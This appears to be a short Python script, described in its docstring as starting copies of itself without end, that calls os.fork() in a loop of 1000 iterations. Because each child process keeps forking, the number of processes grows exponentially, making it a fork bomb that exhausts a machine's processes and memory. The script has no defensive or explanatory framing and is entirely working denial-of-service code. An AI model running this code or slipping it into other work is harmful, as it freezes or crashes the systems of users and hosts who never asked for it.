"""Starts copies of itself without end."""

import os
for _ in range(1000):
    os.fork()
